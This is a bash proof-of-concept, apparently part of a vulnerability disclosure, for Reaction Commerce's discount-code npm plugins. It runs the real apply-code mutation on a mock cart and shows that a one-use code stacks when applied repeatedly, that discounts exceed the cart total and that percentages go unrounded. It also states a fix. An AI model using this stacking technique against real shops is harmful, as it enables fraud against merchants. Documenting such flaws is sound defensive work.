#!/usr/bin/env bash
# @reactioncommerce/api-plugin-discounts-codes 1.2.4 and api-plugin-discounts 1.0.4 (npm, Reaction Commerce). The limits of a code are counted in placed
# orders alone, and a code is added to the cart again if it stands there already: two clicks on "apply" give 20.00 off twice, though the code
# is for one use, and four of 30 percent take 120 percent off. Nothing stops at the cart's total, and percentages keep all digits.
# Safe: before a code is applied, look for it in cart.billing; cut the discount at the items' total.
# Needs Node.js 22.15 or newer.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
npm install --silent --no-audit --no-fund --ignore-scripts @reactioncommerce/api-plugin-discounts-codes@1.2.4 @reactioncommerce/api-plugin-discounts@1.0.4 >/dev/null
cat >shop.mjs <<'JS'
import { registerHooks } from "node:module";
const sameToken = "data:text/javascript,export default (token) => token;";
registerHooks({ resolve: (name, context, next) => (name.endsWith("/hashToken.js") ? { url: sameToken, shortCircuit: true } : next(name, context)) });
const codes = "./node_modules/@reactioncommerce/api-plugin-discounts-codes/src";
const { default: apply } = await import(`${codes}/mutations/applyDiscountCodeToCart.js`);
const { default: percentageOff } = await import(`${codes}/util/getPercentageOffDiscount.js`);
const { default: creditOff } = await import(`${codes}/util/getCreditOffDiscount.js`);
const { default: total } = await import("./node_modules/@reactioncommerce/api-plugin-discounts/src/queries/getDiscountsTotalForCart.js");
const cart = { _id: "cart", shopId: "shop", accountId: "ann", currencyCode: "EUR" };
const vouchers = [
  { _id: "1", code: "20OFF", discount: "20", discountMethod: "code", calculation: { method: "credit" }, conditions: { accountLimit: 1, redemptionLimit: 1 } },
  { _id: "2", code: "30PERCENT", discount: "30", discountMethod: "code", calculation: { method: "discount" }, conditions: { accountLimit: 1 } },
];
const context = {
  userId: "ann",
  collections: {
    Accounts: { findOne: async () => ({ _id: "ann" }) },
    Cart: { findOne: async () => cart },
    Discounts: { findOne: async ({ _id, code }) => vouchers.find((voucher) => voucher._id === _id || voucher.code === code) },
  },
  mutations: { saveCart: async (_, saved) => Object.assign(cart, saved) },
  getFunctionsOfType: (name) => ({ "discounts/codes/credit": [creditOff], "discounts/codes/discount": [percentageOff] })[name],
};
const click = async (amount, discountCode, times) => {
  Object.assign(cart, { billing: [], items: [{ quantity: 1, subtotal: { amount } }] });
  for (let time = 0; time < times; time += 1) await apply(context, { cartId: "cart", shopId: "shop", discountCode });
  console.log(`${discountCode} ${times} times on a cart of ${amount}:`, (await total(context, cart)).total);
};
await click(50, "20OFF", 1);
await click(50, "20OFF", 2);
await click(15, "20OFF", 1);
await click(50, "30PERCENT", 4);
await click(19.99, "30PERCENT", 1);
process.exit();
JS
node shop.mjs | tee seen
diff seen - <<'TEXT'
20OFF 1 times on a cart of 50: 20
20OFF 2 times on a cart of 50: 40
20OFF 1 times on a cart of 15: 20
30PERCENT 4 times on a cart of 50: 60
30PERCENT 1 times on a cart of 19.99: 5.996999999999999
TEXT
